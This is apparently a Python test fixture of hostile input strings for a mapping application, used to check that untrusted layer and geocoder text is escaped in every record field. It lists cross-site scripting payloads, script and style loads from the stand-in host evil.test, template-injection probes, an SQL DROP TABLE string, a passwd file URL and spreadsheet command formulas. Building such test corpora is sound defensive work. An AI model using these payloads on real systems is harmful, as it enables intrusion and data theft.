"""Text that wants to be code: whatever a layer file or a geocoder might bring.

Each string is written for one way out of plain text: markup and its parser's states,
addresses, templates of Python and JavaScript, ends of strings, encodings, direction of
writing, names that JavaScript objects already have, formulas of spreadsheets.
"""

from maps import Source

FIRE = "window.fired=1;alert(1)"

TAGS = (
    f"<script>{FIRE}</script>",
    f"</script><script>{FIRE}</script>",
    f"</SCRIPT ><script>{FIRE}//",
    f"<ScRiPt>{FIRE}</sCrIpT>",
    f"<script/x>{FIRE}</script/x>",
    f"<script\n>{FIRE}</script\n>",
    "<script src=https://evil.test/x.js></script>",
    f"<script type=module>{FIRE}</script>",
    f"<script type=application/json></script><script>{FIRE}</script>",
    "<script",
    "</script",
    "<!--<script>",
    f"<!--<script>{FIRE}</script>-->",
    f"--><script>{FIRE}</script>",
    f"<!--><script>{FIRE}</script>",
    f"--!><img src=x onerror={FIRE}>",
    "]]><script>",
    f"<![CDATA[<script>{FIRE}</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<!DOCTYPE html>",
    f"<<script>{FIRE}//<</script>",
    f"<img src=x onerror={FIRE}>",
    f'<img src="x" onerror="{FIRE}"/>',
    f"<img/src/onerror={FIRE}>",
    f"<img src=x:x onerror\x0b={FIRE}>",
    f'"><img src=x onerror={FIRE}>',
    f"'><svg onload={FIRE}>",
    f"<svg/onload={FIRE}>",
    f"<svg><script>{FIRE}</script></svg>",
    f"<svg><animate onbegin={FIRE} attributeName=x dur=1s>",
    "<svg><use href='https://evil.test/x.svg#a'/></svg>",
    f"<svg><foreignObject><script>{FIRE}</script></foreignObject></svg>",
    f"<svg><style><img src=x onerror={FIRE}></style></svg>",
    f"<math><mtext><script>{FIRE}</script>",
    f"<math><mi xlink:href='javascript:{FIRE}'>x</mi></math>",
    f"<iframe srcdoc='<script>{FIRE}</script>'>",
    "<iframe src=https://evil.test/>",
    f"<iframe src='javascript:{FIRE}'>",
    "<object data=https://evil.test/x></object>",
    "<embed src=https://evil.test/x>",
    "<link rel=stylesheet href=https://evil.test/a.css>",
    "<link rel=prefetch href=https://evil.test/>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.test/a.css'</style>",
    "</style><style>*{background:url(https://evil.test/)}</style>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    f"<body onload={FIRE}>",
    f"<details open ontoggle={FIRE}>",
    f"<input autofocus onfocus={FIRE}>",
    f"<select autofocus onfocus={FIRE}>",
    f"<marquee onstart={FIRE}>",
    f"<video><source onerror={FIRE}></video>",
    f"<audio src=x onerror={FIRE}>",
    f"<dialog open onclose={FIRE}>",
    f"<button popovertarget=x onclick={FIRE}>x</button>",
    f"<a href='javascript:{FIRE}'>x</a>",
    f"<form action='javascript:{FIRE}'><button>x</button></form>",
    "<form id=atlas><input name=open></form>",
    "<template><b>x</b></template>",
    "<template shadowrootmode=open><slot></slot></template>",
    "</title></head><body>",
    "</div></div></body></html>",
    "</textarea></select></option></table>",
    "<textarea>",
    "<plaintext>",
    "<xmp>",
    "<noscript><p title='</noscript>'>",
    f"<x contenteditable onblur={FIRE}>",
    f"<custom-element onclick={FIRE}></custom-element>",
    "<table><tr><td>",
    "<b>bold</b> & <i>italic</i>",
    "a < b > c",
)
ATTRIBUTES = (
    f'" onmouseover="{FIRE}',
    f"' onfocus='{FIRE}' autofocus='",
    f"` onclick=`{FIRE}",
    f'x" style="background:url(javascript:{FIRE})',
    'x" style="position:fixed;inset:0;background:red',
    "\"\"\"'''```",
    '">',
    "'/>",
)
ADDRESSES = (
    f"javascript:{FIRE}",
    f"JaVaScRiPt:{FIRE}",
    f"\tjavascript:{FIRE}",
    f"java\nscript:{FIRE}",
    f"java\tscript:{FIRE}",
    f"\x01javascript:{FIRE}",
    f"javascript&colon;{FIRE}",
    f"javascript://%0a{FIRE}",
    f"view-source:javascript:{FIRE}",
    f"data:text/html,<script>{FIRE}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:https://evil.test/x",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://evil.test/x",
    "intent://evil.test#Intent;end",
    "tel:112",
    "//evil.test/x.js",
    "\\\\evil.test\\x",
    "https://evil.test\\@example.org/",
    "https://user:password@evil.test/",
    "https://evil.test/?a=<b>&c='\"",
    "https://[::1",
    "http://",
    "#lang=kk&f=x",
    "?x=1#y",
)
TEMPLATES = (
    "{{7*7}}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ this.get_name() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ range.constructor('alert(1)')() }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{% import os %}",
    "{% raw %}",
    "{% endraw %}",
    "{% endmacro %}",
    "{%- endif -%}",
    "{# a comment #}",
    "{{{x}}}",
    "{{",
    "}}",
    "%}",
    "# for item in seq",
    "${7*7}",
    f"${{{FIRE}}}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[7*7]]",
    "{amount} {currency} {km}",
    "{n}|{n}|{n}",
    "%s%d{0}",
    "%(name)s",
    "$&$1$`",
    "$name",
)
STRINGS = (
    f"`+{FIRE}+`",
    f"';{FIRE};'",
    f'";{FIRE};"',
    f"\\';{FIRE};//",
    f'\\";{FIRE};//',
    f"*/{FIRE}/*",
    f"//\n{FIRE}",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "\\",
    "\\\\",
    "\\n\\r\\0",
    "'; DROP TABLE sites; --",
    '{"a": 1}',
    "[1, 2]",
    "&lt;script&gt;",
    "&amp;amp;",
    "&#60;b&#62;",
    "&nbsp;&NotExists;",
    "%3Cscript%3E",
    "+ADw-script+AD4-",
)
CHARACTERS = (
    "\u2028alert(1)\u2029",
    "\u0085next line",
    "\u202eevil\u202c",
    "\u2066\u2067x\u2069",
    "\u2066 never closed",
    "\u061c\u200f\u200eab",
    "a\u0000b",
    "a\ufeffb\u200bc",
    "a\u00adb\u2060c",
    "\x1b[31mred",
    "\x7f\x08\x0b",
    "e\u0301\u0327" * 40,
    "\u0489" * 30,
    "שלום <b>عربي</b>",
    "𝕏😀👩‍👩‍👧",
    "🇰🇿\ufe0f\U000e0067",
    "ＡＬＥＲＴ＜script＞",
    "ʻ՚‘’“”«»",
    "W" * 400,
)
NAMES = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "null",
    "undefined",
    "NaN",
    "true",
    "-1",
    "1e999",
)
FORMULAS = (
    '=HYPERLINK("https://evil.test","x")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
    'a,"b",c;d\te',
)

HOSTILE = (
    *TAGS,
    *ATTRIBUTES,
    *ADDRESSES,
    *TEMPLATES,
    *STRINGS,
    *CHARACTERS,
    *NAMES,
    *FORMULAS,
)

HALF = HOSTILE[::2]
SOME = HOSTILE[::5]
"""A few of each sort, for what takes its time."""

FIELDS = (
    *("name", "name_ru", "name_kk", "name_en", "description_en", "kind", "status"),
    *("position_source", "position_source_id", "licence", "pin_reason", "method"),
    *("basis", "budget_currency", "capacity_unit"),
)

LEG = ("mode", "status", "method", "engine", "source", "licence", "version")


def hostile_row(make, text, index):
    said = {"publisher": text, "title": text, "date": text, "url": text}
    texts = dict.fromkeys(FIELDS, text)
    lists = {"sources": [said | {"licence": text}], "links": [said]}
    numbers = {"budget_amount": 5e6, "capacity_amount": 7.0}
    point = {"geometry": make.site()["geometry"]}
    known = {"id": identity(text, index), "other_names": [former(text)]}
    return make.site(**(texts | lists | numbers | point | known))


def identity(text, index):
    return f"{text}{index}"


def former(text):
    return {"name": f"Formerly {text}", "kind": "former"}


def hostile_layer(make, index, text):
    everywhere = {"en": text, "ru": text, "kk": text}
    fact = make.fact(kind=text, items=[everywhere], sites=[text], name_en=text)
    stop = {"name": text, "kind": text, "snap_km": 9.0}
    leg = dict.fromkeys(LEG, text) | {"stops": [text, stop]}
    leg |= {"tried": [{"engine": text, "reason": text}, text], "shared": text}
    road = make.corridor(kind=text, legs=[leg], name_en=text, name=text)
    rows = (hostile_row(make, text, index), fact, road)
    source = Source(text, text, date=text, url=text, licence=text)
    more = {"title": everywhere, "description": everywhere, "theme": text}
    return make.layer(*rows, id=f"{text}{index}", source=source, **more)
